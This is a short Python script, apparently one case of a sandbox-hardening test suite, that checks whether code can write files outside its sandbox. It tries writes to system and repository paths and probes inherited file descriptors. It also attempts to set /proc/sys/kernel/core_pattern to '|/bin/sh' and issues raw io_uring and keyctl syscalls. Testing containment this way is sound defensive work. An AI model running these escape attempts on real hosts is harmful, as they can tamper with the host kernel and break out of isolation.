"""Class 8: drop files where the host would see them: /tmp, /dev/shm, the repo, the bundle dir."""
import os

from _attack import attempt, ctx, report

c = ctx()
for d in ("/tmp", "/dev/shm"):
    p = os.path.join(d, c["marker"])
    try:
        open(p, "w").write("pwned")
        report(f"write_{d.strip('/').replace('/', '_')}", False, "written to the sandbox's private tmpfs (host checks)")
    except OSError as e:
        report(f"write_{d.strip('/').replace('/', '_')}", False, e)
for label, d in (("repo", c["repo"]), ("ro_dir", c["ro_dir"]), ("root", "/"), ("usr", "/usr/lib")):
    attempt(f"write_{label}", lambda d=d: open(os.path.join(d, c["marker"]), "w").write("pwned"))
attempt("fd_escape", lambda: [os.readlink(f"/proc/self/fd/{f}") for f in os.listdir("/proc/self/fd")
                              if int(f) > 2 and not os.readlink(f"/proc/self/fd/{f}").startswith(("/proc", "pipe:", "socket:"))]
        or (_ for _ in ()).throw(OSError("no inherited fd to the host filesystem")))
attempt("proc_sys_write", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"))
attempt("io_uring", lambda: (lambda r: r if r >= 0 else (_ for _ in ()).throw(OSError("io_uring refused")))(
    __import__("ctypes").CDLL(None).syscall(425, 8, __import__("ctypes").create_string_buffer(120))))
attempt("keyctl", lambda: (lambda r: r if r >= 0 else (_ for _ in ()).throw(OSError("keyctl refused")))(
    __import__("ctypes").CDLL(None).syscall(250, 0, -3, 0)))  # KEYCTL_GET_KEYRING_ID of the session keyring
